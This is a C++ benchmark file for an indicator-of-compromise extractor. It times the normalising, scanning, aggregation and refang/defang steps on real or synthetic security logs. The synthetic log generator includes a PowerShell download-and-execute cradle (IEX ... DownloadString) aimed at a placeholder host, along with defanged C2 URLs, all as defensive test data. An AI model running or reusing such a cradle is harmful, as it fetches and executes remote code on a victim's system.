// Google Benchmark for the IoC extractor core: the refang pre-pass, the scanner, aggregation,
// and the refang/defang filters, in bytes per second. The text is the file named by
// CASEFILE_BENCH_CORPUS (e.g. /tmp/casefile-bench-ioc/corpus-200mb.log from bench/ioc/run.sh)
// or, without it, 16 MB of log lines shaped like gen_corpus.py's (EDR JSON, iptables, Squid,
// Windows auth, defanged analyst notes).
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>

#include <benchmark/benchmark.h>

#include "ioc/defang.hpp"
#include "ioc/extractor.hpp"
#include "ioc/indicator_set.hpp"
#include "ioc/normalize.hpp"

namespace {

using casefile::ioc::Extractor;

std::string synthetic(size_t bytes) {
    std::string text;
    text.reserve(bytes + 1024);
    for (unsigned i = 0; text.size() < bytes; ++i) {
        const std::string n = std::to_string(i);
        const std::string o1 = std::to_string(i % 223 + 1);
        const std::string o2 = std::to_string(i / 7 % 256);
        switch (i % 8) {
        case 0:
        case 1:
        case 2:
            text += R"({"@timestamp":"2024-05-03T00:00:)" + std::to_string(i % 60) +
                    R"(.123Z","host":{"name":"WS-0042","ip":["10.1.)" + o2 +
                    R"(.7"]},"process":{"name":"powershell.exe","executable":"C:\\Windows\\)"
                    R"(System32\\WindowsPowerShell\\v1.0\\powershell.exe","command_line":)"
                    R"("powershell.exe -c \"IEX(New-Object Net.WebClient).DownloadString()"
                    R"('https://update)" +
                    n +
                    R"(.example-cdn.com/a/setup.exe')\"","hash":)"
                    R"({"md5":"9e107d9d372bb6826bd81d3542a4)" +
                    std::to_string(1000 + i % 9000) +
                    R"(","sha256":"01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805)" +
                    std::to_string(10000000 + i % 90000000) + R"("}},"destination":{"ip":")" + o1 +
                    "." + o2 + R"(.10.20","port":443,"domain":"cdn)" + n + ".example.org\"}}\n";
            break;
        case 3:
        case 4:
            text += "May  3 00:00:01 fw01 kernel: [12.3] FW-DROP IN=eth0 OUT=eth1 "
                    "MAC=00:16:3e:aa:bb:cc:52:54:00:12:34:56:08:00 SRC=" +
                    o1 + "." + o2 + ".1.9 DST=10.0.0.5 LEN=60 PROTO=TCP SPT=443 DPT=51515\n";
            break;
        case 5:
        case 6:
            text += "1714694400.123    120 10.1.1.1 TCP_MISS/200 1234 GET https://www.google.com/"
                    "search?q=" +
                    n + " jdoe HIER_DIRECT/" + o1 + "." + o2 +
                    ".74.36 text/html \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                    "Chrome/124.0.0.0 Safari/537.36\"\n";
            break;
        default:
            text += "2024-05-03T00:00:01Z analyst=jdoe note=\"C2 hxxps[:]//evil" + n +
                    "[.]top/gate.php resolved to " + o1 + "[.]" + o2 + "[.]3[.]4; mail ops[@]evil" +
                    n + "[.]com; CVE-2024-3400 T1059.001 HKCU\\Software\\Run\\x\"\n";
            break;
        }
    }
    return text;
}

const std::string& corpus() {
    static const std::string text = [] {
        if (const char* path = std::getenv("CASEFILE_BENCH_CORPUS")) {
            std::ifstream in(path, std::ios::binary);
            std::stringstream ss;
            ss << in.rdbuf();
            if (!ss.str().empty()) {
                return ss.str();
            }
        }
        return synthetic(size_t{16} << 20);
    }();
    return text;
}

const Extractor& extractor() {
    static const Extractor ex = *Extractor::create();
    return ex;
}

void BM_Normalize(benchmark::State& state) {
    casefile::ioc::detail::Normalized norm;
    for (auto _ : state) {
        casefile::ioc::detail::normalize(corpus(), casefile::ioc::detail::RefangMode::extract,
                                         norm);
        benchmark::DoNotOptimize(norm.text().data());
    }
    state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * corpus().size()));
}
BENCHMARK(BM_Normalize)->Unit(benchmark::kMillisecond);

// Every candidate validated, one rare type kept: the cost of recognising, not of reporting.
void BM_ScanOnly(benchmark::State& state) {
    casefile::ioc::ExtractOptions options;
    options.types = {casefile::model::IndicatorType::attack_mitigation};
    for (auto _ : state) {
        casefile::ioc::IndicatorSet set(extractor(), options);
        set.add_chunk(corpus());
        benchmark::DoNotOptimize(set.size());
    }
    state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * corpus().size()));
}
BENCHMARK(BM_ScanOnly)->Unit(benchmark::kMillisecond);

// Argument: threads (IndicatorSet::use_threads). Real time, since helpers do part of the work.
void BM_ScanAndAggregate(benchmark::State& state) {
    for (auto _ : state) {
        casefile::ioc::IndicatorSet set(extractor(), {});
        set.use_threads(static_cast<unsigned>(state.range(0)));
        set.add_chunk(corpus());
        size_t occurrences = 0;
        set.visit(
            [&](const casefile::ioc::IndicatorView& v) { occurrences += v.occurrences.size(); });
        benchmark::DoNotOptimize(occurrences);
    }
    state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * corpus().size()));
}
BENCHMARK(BM_ScanAndAggregate)
    ->ArgName("threads")
    ->Arg(1)
    ->Arg(2)
    ->UseRealTime()
    ->Unit(benchmark::kMillisecond);

void BM_RefangText(benchmark::State& state) {
    for (auto _ : state) {
        benchmark::DoNotOptimize(casefile::ioc::refang_text(corpus()));
    }
    state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * corpus().size()));
}
BENCHMARK(BM_RefangText)->Unit(benchmark::kMillisecond);

void BM_DefangText(benchmark::State& state) {
    for (auto _ : state) {
        benchmark::DoNotOptimize(casefile::ioc::defang_text(corpus(), extractor()));
    }
    state.SetBytesProcessed(static_cast<int64_t>(state.iterations() * corpus().size()));
}
BENCHMARK(BM_DefangText)->Unit(benchmark::kMillisecond);

} // namespace

BENCHMARK_MAIN();
